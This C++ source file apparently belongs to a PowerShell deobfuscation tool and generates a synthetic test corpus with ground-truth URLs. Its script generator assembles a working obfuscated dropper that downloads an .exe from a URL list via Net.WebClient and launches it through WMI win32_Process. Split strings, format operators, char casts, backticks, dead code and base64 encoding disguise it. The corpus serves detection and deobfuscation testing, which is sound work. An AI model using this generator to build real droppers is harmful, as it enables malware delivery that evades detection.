// SPDX-License-Identifier: Apache-2.0
#include "psdeob/synth.hpp"

#include <openssl/evp.h>

#include <algorithm>
#include <array>
#include <cctype>
#include <fstream>
#include <numeric>
#include <random>
#include <span>
#include <stdexcept>

#include "psdeob/error.hpp"
#include "psdeob/ioc.hpp"
#include "psdeob/lexer.hpp"

namespace psdeob {

namespace {

constexpr std::string_view kAlnum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
constexpr std::string_view kLower = "abcdefghijklmnopqrstuvwxyz";
constexpr std::string_view kUpper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ";
constexpr std::string_view kDigits = "0123456789";

// Letters that start an escape sequence after a backtick.
bool is_escape_letter(char c) {
  return std::string_view("0abefnrtuvxABEFNRTUVX").find(c) != std::string_view::npos;
}

class Gen {
 public:
  Gen(std::uint64_t seed, const std::set<Technique>& techniques) : rng_(seed), t_(techniques) {}

  // Plain modulo keeps the stream identical across standard libraries.
  std::size_t below(std::size_t n) { return n == 0 ? 0 : static_cast<std::size_t>(rng_() % n); }
  std::size_t between(std::size_t lo, std::size_t hi) { return lo + below(hi - lo + 1); }
  bool chance(unsigned percent) { return below(100) < percent; }
  char pick(std::string_view chars) { return chars[below(chars.size())]; }
  bool has(Technique t) const { return t_.count(t) != 0; }

  std::string word(std::size_t n, std::string_view chars) {
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s += pick(chars);
    return s;
  }

  std::string random_case(std::string_view s) {
    std::string out(s);
    if (!has(Technique::Backticks)) return out;
    for (auto& c : out)
      if (std::isalpha(static_cast<unsigned char>(c)) && chance(50))
        c = static_cast<char>(std::isupper(static_cast<unsigned char>(c)) ? std::tolower(c) : std::toupper(c));
    return out;
  }

  // Backticks before letters that are not escapes; PowerShell drops them.
  std::string backticks(std::string_view s) {
    std::string out;
    for (std::size_t i = 0; i < s.size(); ++i) {
      char c = s[i];
      if (i > 0 && std::isalpha(static_cast<unsigned char>(c)) && !is_escape_letter(c) && chance(25)) out += '`';
      out += c;
    }
    return out;
  }

  /// `.name` for a method call or property.
  std::string member(std::string_view name) {
    if (!has(Technique::Backticks)) return "." + std::string(name);
    return ".\"" + backticks(random_case(name)) + "\"";
  }

  std::string variable(std::string_view plain) {
    if (!has(Technique::RandomNames)) return std::string(plain);
    for (;;) {
      std::string name(1, pick(kUpper));
      name += word(6, "abcdefghijklmnopqrstuvwxyz0123456789");
      if (used_.insert(name).second) return name;
    }
  }

  std::string quote(std::string_view s) {
    bool plain_dq = s.find_first_of("$`\"") == std::string_view::npos && s.find("“") == std::string_view::npos &&
                    s.find("”") == std::string_view::npos && s.find("„") == std::string_view::npos;
    bool has_sq = s.find_first_of("'") != std::string_view::npos || s.find("‘") != std::string_view::npos ||
                  s.find("’") != std::string_view::npos;
    if (has(Technique::SplitStrings) && !has_sq && chance(8)) return "‘" + std::string(s) + "’";
    if (plain_dq && chance(40)) return "\"" + std::string(s) + "\"";
    std::string out = "'";
    for (char c : s) {
      out += c;
      if (c == '\'') out += '\'';
    }
    return out + "'";
  }

  std::string char_cast(unsigned char c) {
    auto code = std::to_string(static_cast<unsigned>(c));
    std::string kw = random_case("char");
    return chance(50) ? "[" + kw + "](" + code + ")" : "[" + kw + "]" + code;
  }

  // A piece may become a [char] cast only when it is not the left operand
  // that decides the type of its group.
  std::string piece(std::string_view p, bool leftmost) {
    if (!leftmost && has(Technique::CharCast) && p.size() == 1 &&
        static_cast<unsigned char>(p[0]) >= 0x20 && static_cast<unsigned char>(p[0]) < 0x7f && chance(35))
      return char_cast(static_cast<unsigned char>(p[0]));
    return quote(p);
  }

  std::string concat_tree(const std::vector<std::string>& pieces, std::size_t lo, std::size_t hi, bool leftmost) {
    if (hi - lo == 1) return piece(pieces[lo], leftmost);
    const std::size_t n = hi - lo;
    const std::size_t m = lo + std::max<std::size_t>(1, n / 3 + below(std::max<std::size_t>(1, n / 3 + 1)));
    const std::size_t mid = std::min(m, hi - 1);
    const bool wrap_left = mid - lo > 1 && chance(50);
    std::string left = concat_tree(pieces, lo, mid, leftmost || wrap_left);
    if (wrap_left) left = "(" + left + ")";
    std::string right;
    if (hi - mid == 1) {
      right = piece(pieces[mid], false);
    } else {
      right = "(" + concat_tree(pieces, mid, hi, true) + ")";
    }
    return left + "+" + right;
  }

  std::string format_op(const std::vector<std::string>& pieces) {
    std::vector<std::size_t> order(pieces.size());
    std::iota(order.begin(), order.end(), 0);
    for (std::size_t i = order.size(); i > 1; --i) std::swap(order[i - 1], order[below(i)]);
    // order[k] is the argument slot of piece k
    std::vector<std::string> args(pieces.size());
    std::string tmpl;
    for (std::size_t k = 0; k < pieces.size(); ++k) {
      tmpl += "{" + std::to_string(order[k]) + "}";
      args[order[k]] = pieces[k];
    }
    std::string out = "(\"" + tmpl + "\" " + (chance(50) ? "-F" : "-f") + " ";
    for (std::size_t i = 0; i < args.size(); ++i) {
      if (i) out += ",";
      out += quote(args[i]);
    }
    return out + ")";
  }

  std::vector<std::string> chunks(std::string_view s) {
    std::vector<std::string> out;
    if (has(Technique::SplitStrings)) {
      for (std::size_t i = 0; i < s.size();) {
        std::size_t n = std::min(s.size() - i, between(1, 4));
        out.emplace_back(s.substr(i, n));
        i += n;
      }
    } else if (has(Technique::CharCast) && s.size() >= 2) {
      out.emplace_back(s.substr(0, s.size() - 1));
      out.emplace_back(s.substr(s.size() - 1));
    } else if (has(Technique::FormatOp) && s.size() >= 2) {
      // a few larger pieces so -f has something to permute
      const std::size_t parts = std::min<std::size_t>(s.size(), between(2, 4));
      for (std::size_t k = 0, i = 0; k < parts; ++k) {
        std::size_t n = k + 1 == parts ? s.size() - i : between(1, (s.size() - i) - (parts - k - 1));
        out.emplace_back(s.substr(i, n));
        i += n;
      }
    } else {
      out.emplace_back(s);
    }
    return out;
  }

  /// Expression that evaluates to the string `s`.
  std::string obf(std::string_view s) {
    if (s.empty()) return "''";
    auto pieces = chunks(s);
    if (pieces.size() == 1) return quote(pieces[0]);
    std::string out;
    for (std::size_t i = 0; i < pieces.size();) {
      std::size_t n = std::min(pieces.size() - i, between(3, 8));
      std::vector<std::string> seg(pieces.begin() + static_cast<std::ptrdiff_t>(i),
                                   pieces.begin() + static_cast<std::ptrdiff_t>(i + n));
      std::string expr;
      if (has(Technique::FormatOp) && seg.size() >= 2 && chance(45)) {
        expr = format_op(seg);
      } else {
        expr = concat_tree(seg, 0, seg.size(), true);
        if (seg.size() > 1 && (i > 0 || chance(50))) expr = "(" + expr + ")";
      }
      out += (i ? "+" : "") + expr;
      i += n;
    }
    return "(" + out + ")";
  }

  std::string token_for(std::string_view text) {
    for (;;) {
      std::string tok = "=" + word(2, kUpper) + word(2, kDigits);
      if (text.find(tok) == std::string_view::npos) return tok;
    }
  }

  static std::string replace_all(std::string s, std::string_view from, std::string_view to) {
    for (std::size_t pos = 0; (pos = s.find(from, pos)) != std::string::npos; pos += to.size())
      s.replace(pos, from.size(), to);
    return s;
  }

  /// `text` built with one character hidden behind a replace token.
  std::string replaced(std::string_view text, char hidden) {
    if (!has(Technique::ReplaceToken) || text.find(hidden) == std::string_view::npos) return obf(text);
    std::string tok = token_for(text);
    std::string masked = replace_all(std::string(text), std::string(1, hidden), tok);
    std::string with = has(Technique::CharCast)
                           ? "[" + random_case("string") + "]" + char_cast(static_cast<unsigned char>(hidden))
                           : obf(std::string(1, hidden));
    return "(" + obf(masked) + ")" + member("replace") + "(" + obf(tok) + "," + with + ")";
  }

  std::string separator_expr() {
    if (!has(Technique::CharCast)) return obf("@");
    // unassigned variables read as empty strings
    return "$" + variable("nothing1") + "+" + char_cast('@') + "+$" + variable("nothing2");
  }

  std::string dead_assignment() {
    std::string junk(1, pick(kUpper));
    junk += word(between(4, 9), kAlnum);
    return "$" + variable("unused" + std::to_string(dead_++)) + "=" + obf(junk) + ";";
  }

  std::string maybe_dead() {
    if (!has(Technique::DeadCode)) return "";
    std::string out;
    for (std::size_t n = below(3); n > 0; --n) out += dead_assignment();
    return out;
  }

  std::string command(std::string_view name) {
    return chance(50) ? "&(" + obf(name) + ")" : ".(" + obf(name) + ")";
  }

  std::string script(const std::vector<std::string>& urls) {
    std::string blob;
    for (std::size_t i = 0; i < urls.size(); ++i) blob += (i ? "@" : "") + urls[i];
    const std::string dir = "\\" + word(1, kUpper) + word(6, "abcdefghijklmnopqrstuvwxyz0123456789") + "\\" +
                            word(1, kUpper) + word(6, "abcdefghijklmnopqrstuvwxyz0123456789") + "\\";
    const std::string exe = word(1, kUpper) + word(5, "abcdefghijklmnopqrstuvwxyz0123456789") + ".exe";
    const std::string v_dirtype = variable("dirtype"), v_net = variable("net"), v_dir = variable("dir"),
                      v_path = variable("path"), v_client = variable("client"), v_urls = variable("urls"),
                      v_url = variable("url");

    std::string s;
    s += maybe_dead();
    s += "$" + v_dirtype + "=[" + random_case("type") + "](" + obf("System.IO.Directory") + ");";
    s += maybe_dead();
    s += random_case("set-item") + " (" + obf("variable:" + v_net) + ") ([" + random_case("type") + "](" +
         obf("System.Net.ServicePointManager") + "));";
    s += "$" + v_dir + "=" + replaced(dir, '\\') + ";";
    s += maybe_dead();
    s += "$" + v_dirtype + "::" + random_case("createdirectory") + "($" + random_case("home") + "+$" + v_dir + ");";
    s += "$" + v_net + "::" + random_case("securityprotocol") + "=" + obf("Tls12") + ";";
    s += "$" + v_path + "=$" + random_case("home") + "+$" + v_dir + "+" + obf(exe) + ";";
    s += maybe_dead();
    s += "$" + v_client + "=" + command("new-object") + " " + random_case("net.webclient") + ";";
    s += "$" + v_urls + "=(" + replaced(blob, '/') + ")" + member("split") + "(" + separator_expr() + ");";
    s += maybe_dead();
    s += random_case("foreach") + "($" + v_url + " in $" + v_urls + "){" + random_case("try") + "{";
    s += "$" + v_client + member("downloadfile") + "($" + v_url + ",$" + v_path + ");";
    s += random_case("if") + " ((" + command("Get-Item") + " $" + v_path + ")" + member("length") + " -ge " +
         std::to_string(between(20000, 90000)) + "){";
    s += "([" + random_case("wmiclass") + "]" + obf("win32_Process") + ")" + member("create") + "($" + v_path + ");";
    s += random_case("break") + ";";
    if (has(Technique::DeadCode)) s += dead_assignment();
    s += "}}" + random_case("catch") + "{}}";
    s += maybe_dead();
    return s;
  }

 private:
  std::mt19937_64 rng_;
  std::set<Technique> t_;
  std::set<std::string> used_;
  std::size_t dead_ = 0;
};

}  // namespace

std::string_view to_string(Technique t) {
  switch (t) {
    case Technique::SplitStrings: return "split-strings";
    case Technique::FormatOp: return "format-op";
    case Technique::ReplaceToken: return "replace-token";
    case Technique::CharCast: return "char-cast";
    case Technique::Backticks: return "backticks";
    case Technique::DeadCode: return "dead-code";
    case Technique::RandomNames: return "random-names";
  }
  return "";
}

std::optional<Technique> parse_technique(std::string_view s) {
  for (auto t : all_techniques())
    if (to_string(t) == s) return t;
  return std::nullopt;
}

std::set<Technique> all_techniques() {
  return {Technique::SplitStrings, Technique::FormatOp, Technique::ReplaceToken, Technique::CharCast,
          Technique::Backticks,    Technique::DeadCode, Technique::RandomNames};
}

std::string sha256_hex(std::string_view bytes) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned int len = 0;
  if (EVP_Digest(bytes.data(), bytes.size(), md, &len, EVP_sha256(), nullptr) != 1)
    throw Error("SHA-256 failed");
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  for (unsigned i = 0; i < len; ++i) {
    out += kHex[md[i] >> 4];
    out += kHex[md[i] & 15];
  }
  return out;
}

SyntheticSample generate_synthetic_sample(const std::vector<std::string>& urls, std::uint64_t seed,
                                          const std::set<Technique>& techniques) {
  if (urls.empty()) throw std::invalid_argument("synthetic sample needs at least one URL");
  std::vector<std::string> normalized;
  for (const auto& u : urls) {
    auto v = validate_url(u);
    if (!v) throw std::invalid_argument("not a valid URL: " + u);
    if (v->find_first_of("@*") != std::string::npos) throw std::invalid_argument("URL contains a separator: " + u);
    normalized.push_back(*v);
  }
  Gen gen(seed, techniques);
  SyntheticSample s;
  s.script = gen.script(normalized);
  s.truth.sample_id = sha256_hex(s.script);
  s.truth.script_path = s.truth.sample_id.substr(0, 16) + ".ps1";
  s.truth.urls = std::move(normalized);
  return s;
}

std::vector<std::string> random_urls(std::uint64_t seed, std::size_t count) {
  static constexpr std::array<std::string_view, 10> kTlds = {"com", "net", "org", "eu", "co",
                                                            "info", "in", "biz", "de", "fr"};
  static constexpr std::array<std::string_view, 8> kDirs = {"wp-content", "wp-admin", "wp-includes", "assets",
                                                           "images", "uploads", "css", "js"};
  std::mt19937_64 rng(seed);
  auto below = [&](std::size_t n) { return static_cast<std::size_t>(rng() % n); };
  auto word = [&](std::size_t n, std::string_view chars) {
    std::string w;
    for (std::size_t i = 0; i < n; ++i) w += chars[below(chars.size())];
    return w;
  };
  std::set<std::string> seen;
  std::vector<std::string> out;
  while (out.size() < count) {
    std::string url = below(2) ? "https://" : "http://";
    if (below(4) == 0) url += "www.";
    url += word(4 + below(10), kLower);
    if (below(4) == 0) url += "-" + word(3 + below(5), kLower);
    url += ".";
    url += kTlds[below(kTlds.size())];
    url += "/";
    for (std::size_t n = 1 + below(2); n > 0; --n) {
      url += below(3) == 0 ? std::string(kDirs[below(kDirs.size())]) : word(2 + below(8), kAlnum);
      url += "/";
    }
    url += word(1 + below(4), kAlnum) + "/";
    if (seen.insert(url).second) out.push_back(url);
  }
  return out;
}

std::vector<CorpusSample> generate_corpus(std::size_t count, std::uint64_t seed,
                                          const std::set<Technique>& techniques) {
  std::mt19937_64 rng(seed);
  std::vector<CorpusSample> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    const std::uint64_t url_seed = rng();
    const std::uint64_t script_seed = rng();
    const std::size_t n_urls = 4 + static_cast<std::size_t>(rng() % 6);
    auto sample = generate_synthetic_sample(random_urls(url_seed, n_urls), script_seed, techniques);
    CorpusSample c;
    if (i % 2 == 1) {
      auto wide = utf8_to_utf16le(sample.script);
      c.content = base64_encode(std::span<const std::uint8_t>(wide));
    } else {
      c.content = sample.script;
    }
    c.truth = std::move(sample.truth);
    c.truth.sample_id = sha256_hex(c.content);
    char name[32];
    std::snprintf(name, sizeof name, "sample_%05zu.ps1", i);
    c.file_name = name;
    c.truth.script_path = c.file_name;
    out.push_back(std::move(c));
  }
  return out;
}

void write_corpus(const std::filesystem::path& dir, const std::vector<CorpusSample>& samples) {
  std::filesystem::create_directories(dir);
  for (const auto& s : samples) {
    std::ofstream f(dir / s.file_name, std::ios::binary);
    f << s.content;
    if (!f) throw Error("cannot write " + (dir / s.file_name).string());
  }
  std::ofstream truth(dir / kTruthFileName, std::ios::binary);
  for (const auto& s : samples) truth << truth_to_jsonl_line(s.truth) << '\n';
  if (!truth) throw Error("cannot write " + (dir / kTruthFileName).string());
}

}  // namespace psdeob
